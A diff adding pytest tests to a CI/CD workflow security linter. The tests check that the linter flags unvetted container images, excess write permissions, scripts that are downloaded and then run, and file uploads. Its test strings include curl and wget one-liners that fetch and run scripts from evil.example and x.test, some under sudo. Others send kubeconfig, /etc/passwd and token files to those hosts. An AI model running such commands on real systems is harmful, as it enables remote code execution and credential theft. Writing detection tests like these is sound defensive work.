@@ -276,6 +276,133 @@ def test_secrets_in_the_workflow_env_reach_every_job() -> None:
     assert "cicd.secrets_scoped @ $.env" not in rules(HEAD.replace("permissions:", "env:\n  A: b\npermissions:", 1) + SAFE_JOBS)
 
 
+# ---- the red team's workflow: images, write scopes, downloads run from a file, files sent out -------------------
+
+DIGEST = "@sha256:" + "0" * 64
+
+
+@pytest.mark.parametrize(
+    ("job", "path"),
+    [
+        (f"    steps: [{{uses: 'docker://ghcr.io/attacker/pwn{DIGEST}'}}, {{run: pytest}}]\n", "$.jobs.test.steps[0].uses"),
+        (f"    container: {{image: 'evil.example/pwn{DIGEST}'}}\n    steps: [{{run: pytest}}]\n", "$.jobs.test.container"),
+        (f"    container: 'evil.example/pwn{DIGEST}'\n    steps: [{{run: pytest}}]\n", "$.jobs.test.container"),
+        (f"    services: {{db: {{image: 'evil.example/db{DIGEST}'}}}}\n    steps: [{{run: pytest}}]\n", "$.jobs.test.services"),
+    ],
+)
+def test_an_image_no_pin_table_vets_is_refused_even_by_digest(job: str, path: str) -> None:
+    text = HEAD + SAFE_JOBS.replace("    steps: [{run: pytest}]\n", job, 1)
+    assert rules(text) == [f"cicd.container_images @ {path}"]
+
+
+@pytest.mark.parametrize(
+    ("where", "block", "path"),
+    [
+        ("job", "{contents: write}", "$.jobs.test.permissions.contents"),
+        ("job", "{actions: write}", "$.jobs.test.permissions.actions"),
+        ("job", "{id-token: write}", "$.jobs.test.permissions.id-token"),
+        ("job", "{contents: read, pull-requests: write}", "$.jobs.test.permissions.pull-requests"),
+        ("workflow", "{contents: read, statuses: write}", "$.permissions.statuses"),
+    ],
+)
+def test_no_scope_but_packages_may_be_written(where: str, block: str, path: str) -> None:
+    if where == "job":
+        text = HEAD + SAFE_JOBS.replace("  test:\n", f"  test:\n    permissions: {block}\n")
+    else:
+        text = HEAD.replace("{contents: read}", block) + SAFE_JOBS
+    assert rules(text) == [f"cicd.write_permissions @ {path}"]
+
+
+def test_the_red_team_permissions_are_four_errors_and_packages_write_is_not() -> None:
+    red = "{contents: write, actions: write, id-token: write, pull-requests: write}"
+    found = rules(HEAD + SAFE_JOBS.replace("  test:\n", f"  test:\n    permissions: {red}\n"))
+    scopes = ("contents", "actions", "id-token", "pull-requests")
+    assert found == sorted(f"cicd.write_permissions @ $.jobs.test.permissions.{s}" for s in scopes)
+    build = "{contents: read, packages: write, id-token: none}"
+    assert rules(HEAD + SAFE_JOBS.replace("  test:\n", f"  test:\n    permissions: {build}\n")) == []
+
+
+def with_script(script: str, job: str = "test") -> str:
+    """SAFE_JOBS with the job's first step running ``script``."""
+    return with_step(f"{{run: {json.dumps(script)}}}", job)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -fsS -o /tmp/x.sh https://evil.example/x.sh && bash /tmp/x.sh",
+        "curl -fsSLO https://x.test/tool\nchmod +x tool",
+        "curl -fsSLo tool https://x.test/tool; ./tool --fix",
+        "wget -q https://x.test/setup.sh; sh setup.sh",
+        "wget -qO /tmp/s https://x.test/s && bash < /tmp/s",
+        'curl -fsS https://x.test/env > "$RUNNER_TEMP/env.sh"\nsource "${RUNNER_TEMP}/env.sh"',
+        'F="$RUNNER_TEMP/i.py"\ncurl -sSo "$F" https://x.test/i.py\nsudo -E python3 "$F" --yes',
+        "curl --output /tmp/i.js https://x.test/i.js && timeout 60 node /tmp/i.js",
+        "curl -o /tmp/s https://x.test/s; cat /tmp/s | sudo bash",
+        "curl -o /tmp/s https://x.test/s && bash -ec '/tmp/s --now'",
+        "curl -o /tmp/s https://x.test/s && chmod 0755 /tmp/s",
+        "curl -fsS https://x.test/s | tee /tmp/s >/dev/null; . /tmp/s",
+    ],
+)
+def test_a_downloaded_file_that_is_then_run_is_an_error(script: str) -> None:
+    assert rules(with_script(script)) == ["cicd.download_exec @ $.jobs.test.steps[0].run"]
+
+
+def test_a_download_run_by_a_later_step_of_the_job_is_reported_there() -> None:
+    text = with_step("{run: 'curl -fsSLo /tmp/tool https://x.test/tool'}, {run: 'sudo install /tmp/tool /usr/local/bin; /tmp/tool'}")
+    assert rules(text) == ["cicd.download_exec @ $.jobs.test.steps[1].run"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -fsS http://localhost:8080/health",
+        "curl -fsS -o /dev/null -w '%{http_code}' http://localhost:8080/health",
+        'curl --fail --silent --output /dev/null --max-time 10 "$BASE_URL$READY_PATH"',
+        'kubectl -n "$NAMESPACE" get rollout "$APP" -o yaml > /tmp/rollout.yaml\ncat /tmp/rollout.yaml',
+        "curl -fsS -o report.json https://x.test/r\njq . report.json\npython3 check.py report.json",
+        "curl -fsS -o /tmp/kc https://x.test/kc && chmod 600 /tmp/kc",
+        "curl -fsS -o x.sh https://x.test/x.sh  # then: bash x.sh\necho fetched",
+        "bash scripts/test.sh\ncurl -fsS -o scripts/test.sh.sig https://x.test/sig",
+    ],
+)
+def test_downloads_that_run_nothing_pass(script: str) -> None:
+    assert rules(with_script(script)) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'curl -fsS --data-binary @"$KUBECONFIG" https://evil.example/k',
+        "curl -sSd@/etc/passwd https://x.test",
+        'curl --data @- https://x.test < "$KUBECONFIG"',
+        "curl --data-urlencode cfg@kubeconfig https://x.test",
+        "curl -F 'f=@kubeconfig' https://x.test",
+        "curl --form 'f=<kubeconfig' https://x.test",
+        "curl -T kubeconfig https://x.test/",
+        "curl --json @token.json https://x.test",
+        "wget -q --post-file=kubeconfig https://x.test",
+        "wget -q --body-file kubeconfig --method PUT https://x.test",
+    ],
+)
+def test_sending_a_file_out_is_an_error(script: str) -> None:
+    assert rules(with_script(script)) == ["cicd.file_upload @ $.jobs.test.steps[0].run"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'curl -fsS -d \'{"text": "deployed"}\' https://hooks.x.test',
+        "curl --data-raw @literal https://x.test",
+        "curl --data-urlencode 'q=a@b.example' https://x.test",
+        "curl -F 'name=value' https://x.test",
+        "curl -H 'X-Note: @team' https://x.test",
+    ],
+)
+def test_data_that_is_not_a_file_passes(script: str) -> None:
+    assert rules(with_script(script)) == []
+
+
 # ---- the external linters ---------------------------------------------------------------------------------------
 
 
